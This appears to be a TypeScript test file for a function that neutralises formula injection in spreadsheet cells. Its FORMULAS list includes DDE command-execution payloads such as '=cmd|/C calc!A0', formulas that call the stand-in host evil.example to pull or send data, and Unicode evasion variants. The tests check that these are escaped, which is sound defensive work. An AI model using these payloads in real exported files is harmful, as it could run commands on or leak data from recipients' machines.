import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { guardCell, unguardCell } from './formula.ts'

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=cmd|/C calc!A0',
  '+cmd|/C calc!A0',
  '-cmd|/C calc!A0',
  '@cmd|/C calc!A0',
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc")',
  ' =1+1',
  '   =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u3000=1+1',
  '\u2028=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ' ＝1+1',
  '−1+1',
  '%0A=1+1',
  '|cmd',
  "'=1+1",
  '+1-800-EVIL',
  '\tplain',
]
const HARMLESS = [
  '',
  'Ines',
  '+49 30 1234567',
  '+1 (555) 010-9999',
  '+47 22 33 44 55',
  '-5',
  '-5,25',
  '+7',
  'a=b',
  'mail@example.com',
  "O'Neil",
  "'t Hooft",
  '1+1',
  'https://example.com/?a=1',
  '1984-05-12',
  '100%',
]

describe('cells for spreadsheets', () => {
  it('run nothing', () => {
    for (const text of FORMULAS) {
      assert.equal(guardCell(text), `'${text}`)
      assert.equal(unguardCell(guardCell(text)), text)
    }
  })
  it('stay as they are where they are harmless', () => {
    for (const text of HARMLESS) {
      assert.equal(guardCell(text), text)
      assert.equal(unguardCell(text), text)
    }
  })
})
